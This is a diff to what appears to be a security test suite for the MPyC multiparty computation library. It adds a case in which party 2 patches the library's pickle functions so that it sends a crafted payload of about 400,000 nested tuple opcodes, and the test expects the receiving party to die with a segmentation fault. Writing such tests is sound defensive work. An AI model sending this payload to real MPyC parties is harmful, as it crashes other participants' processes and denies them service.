@@ -54,3 +54,31 @@ def register(attack: str) -> None:
 
 for name in ATTACKS:
     register(name)
+
+
+OVERFLOWING = """
+import time
+from types import SimpleNamespace
+import mpyc.runtime
+from mpyc.runtime import mpc
+
+DEEP = b'\\x80\\x04\\x8f(N' + b'\\x85' * 400_000 + b'\\x90.'
+mpc.run(mpc.start())
+if mpc.pid == 2:
+    mpyc.runtime.pickle = SimpleNamespace(dumps=lambda _: DEEP, loads=lambda _: None)
+mpc.run(mpc.transfer(1))
+time.sleep(5 if mpc.pid == 2 else 0)
+mpc.run(mpc.shutdown())
+"""
+"""Party 2 sends tuples in one another, which overflow the stack of whoever puts them in a set."""
+
+
+@case(
+    "a pickle that kills whoever reads it",
+    Verdict.PARTY_FAILED,
+    "party 2",
+    "content that ends whoever reads it (Segmentation fault)",
+    concerned=(2,),
+)
+def overflowing(stage: Stage) -> SessionResult:
+    return stage.run(OVERFLOWING)
